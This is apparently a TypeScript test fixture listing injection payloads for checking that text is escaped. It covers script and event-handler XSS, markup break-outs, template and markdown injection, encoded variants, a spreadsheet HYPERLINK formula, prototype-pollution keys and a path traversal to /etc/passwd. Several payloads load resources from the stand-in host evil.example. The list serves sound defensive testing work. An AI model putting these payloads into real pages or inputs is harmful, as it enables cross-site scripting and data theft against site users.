/** Where a text that runs would lead: no machine has this name. */
export const EVIL = 'evil.example';

/** What is run where a text becomes code: the test hears of it. */
const RUN = 'alert(1)';

/**
 * Texts that become code, load something or lead away wherever one of them is put in as anything but
 * text: in HTML, in an attribute, in an address, in a script, in JSON, in a style sheet, in Markdown, in
 * a template, in XML, as the name of a property.
 */
export const PAYLOADS: readonly string[] = [
	`<script>${RUN}</script>`,
	`<script src=https://${EVIL}/x.js></script>`,
	`<img src=x onerror=${RUN}>`,
	`<img src=https://${EVIL}/x.png>`,
	`<svg onload=${RUN}>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
	`<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
	`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
	`<iframe src=https://${EVIL}/></iframe>`,
	`<object data=https://${EVIL}/></object>`,
	`<embed src=https://${EVIL}/>`,
	`<base href=https://${EVIL}/>`,
	`<link rel=stylesheet href=https://${EVIL}/x.css>`,
	`<meta http-equiv=refresh content="0;url=https://${EVIL}/">`,
	`<form action=https://${EVIL}/><button>Send</button></form>`,
	`<button formaction=javascript:${RUN}>x</button>`,
	`<input autofocus onfocus=${RUN}>`,
	`<details open ontoggle=${RUN}>x</details>`,
	`<video><source onerror=${RUN}></video>`,
	`<body onload=${RUN}>`,
	`<style>@import 'https://${EVIL}/x.css';</style>`,
	`<p style="background:url(https://${EVIL}/x)">x</p>`,
	`<a href="javascript:${RUN}">x</a>`,
	`<template shadowrootmode=open><script>${RUN}</script></template>`,
	`<x onclick=${RUN}>x</x>`,
	`<IMG SRC=x oNeRRoR=${RUN}>`,
	`<img/src=x/onerror=${RUN}//`,
	`<<img src=x onerror=${RUN}>>`,
	`</title><script>${RUN}</script>`,
	`</textarea><script>${RUN}</script>`,
	`</style><script>${RUN}</script>`,
	`</script><script>${RUN}</script>`,
	`</template><script>${RUN}</script>`,
	`</mark><script>${RUN}</script>`,
	`--><script>${RUN}</script>`,
	`]]><script>${RUN}</script>`,
	`"><script>${RUN}</script>`,
	`'><script>${RUN}</script>`,
	`" onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
	`' onmouseover=${RUN} autofocus onfocus=${RUN} x='`,
	`\` onmouseover=${RUN} x=\``,
	`";${RUN};//`,
	`';${RUN};//`,
	`\\";${RUN};//`,
	`\${${RUN}}`,
	`{${RUN}}`,
	`{{constructor.constructor("${RUN}")()}}`,
	`<%= ${RUN} %>`,
	`javascript:${RUN}`,
	`data:text/html,<script>${RUN}</script>`,
	`[x](javascript:${RUN})`,
	`[x](java&#115;cript:${RUN})`,
	`[x](data:text/html;base64,PHNjcmlwdD4)`,
	`<javascript:${RUN}>`,
	`&lt;img src=x onerror=${RUN}&gt;`,
	`&#60;img src=x onerror=${RUN}&#62;`,
	`%3Cimg src=x onerror=${RUN}%3E`,
	`\\u003cimg src=x onerror=${RUN}\\u003e`,
	`import x from "https://${EVIL}/x.js"`,
	`=HYPERLINK("https://${EVIL}/")`,
	`__proto__ constructor toString`,
	`../../../../etc/passwd`,
	`<!-- `,
	`<![CDATA[ `,
];

/** So many payloads in one line, from a place in their list on; behind the last comes the first. */
export function inTurn(payloads: readonly string[], turn: number, most: number): string {
	const first = turn % payloads.length;
	return [...payloads.slice(first), ...payloads.slice(0, first)].slice(0, most).join(' ');
}
